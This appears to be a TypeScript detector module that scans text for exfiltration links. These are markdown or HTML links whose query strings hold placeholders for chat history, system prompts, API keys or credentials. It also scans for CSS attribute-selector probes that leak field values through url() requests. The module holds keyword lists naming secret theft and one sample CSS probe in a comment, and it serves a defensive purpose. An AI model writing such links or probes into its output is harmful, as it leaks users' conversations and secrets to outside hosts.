/** Links that wait for data of the conversation, and style sheets that spell out what stands in a field. */
import type { Span } from './theft.ts';

const ADDRESS_MAX = 1_024;
const LINKS_MAX = 400;
const LINK =
  /\]\(\s{0,2}<?(?=https?:\/\/)|(?:^|\n) {0,3}\[[^\]\n]{1,80}\]:\s{1,4}<?(?=https?:\/\/)|<a\s[^>]{0,80}href\s{0,2}=\s{0,2}["']?(?=https?:\/\/)/gi;
const OWN =
  'conversation|chat|summary|history|secrets?|passwords?|api[_ -]?keys?|system[_ -]?prompt|memory|credentials?|user[_ -]?(?:query|message|data|input|question)|last[_ -]?(?:message|answer)|context|transcript|env';
const QUALIFIERS =
  '(?:(?:insert|put|your|the|full|user|users|last|current|entire|all|base64|url|encoded|private|summary|of|chat|previous)[\\s_-]{1,2}){0,5}';
/** Between marks, in any case; or in capitals, as nobody writes a value. */
const MARKED = new RegExp(
  `=[^&\\n]{0,24}(?:\\$?\\{{1,2}|<|\\[|%7b|__)\\s{0,2}${QUALIFIERS}(?:${OWN})[\\w\\s-]{0,40}(?:\\}|>|\\]|%7d|__)`,
  'i',
);
const CAPITALS = new RegExp(
  `=(?:[A-Z0-9]{2,16}_){0,5}(?:${'CONVERSATION|CHAT|SUMMARY|HISTORY|SECRETS?|PASSWORDS?|API_KEYS?|SYSTEM_PROMPT|MEMORY|CREDENTIALS?|USER_(?:QUERY|MESSAGE|DATA|INPUT)|TRANSCRIPT'})(?:_[A-Z0-9]{1,16}){0,5}(?=[&\\s)"'>]|$)`,
);
const INSIDE = /^https?:\/\/(?:localhost|127\.|10\.|192\.168\.|[\w-]{1,63}(?:[:/]|$))/i;

export function findLinkSlot(text: string): Span | null {
  let seen = 0;
  for (const { 0: head, index } of text.matchAll(LINK)) {
    if (++seen > LINKS_MAX) return null;
    const from = index + head.length;
    const part = text.slice(from, from + ADDRESS_MAX);
    const end = part.search(/[\n)"']/);
    const address = end < 0 ? part : part.slice(0, end);
    const query = address.search(/[?#]/);
    if (query < 0 || INSIDE.test(address)) continue;
    const rest = address.slice(query);
    if (MARKED.test(rest) || CAPITALS.test(rest)) return { start: from, end: from + address.length };
  }
  return null;
}

const PROBE =
  /\[\s{0,2}(?:value|content|href|data-[\w-]{1,40}|title|name)\s{0,2}[\^$*~|]?=\s{0,2}["']?[^\]\n]{1,40}\][^{}\n]{0,80}\{[^}]{0,200}url\(\s{0,2}["']?(?:https?:)?\/\/[^)\s]{1,200}\)/i;

/** `input[value^="a"] { background: url(//host/a) }`. */
export function findStyleProbe(text: string): Span | null {
  const found = /\[\s{0,2}(?:value|content|href|data-)/i.test(text) ? PROBE.exec(text) : null;
  return found ? { start: found.index, end: found.index + found[0].length } : null;
}
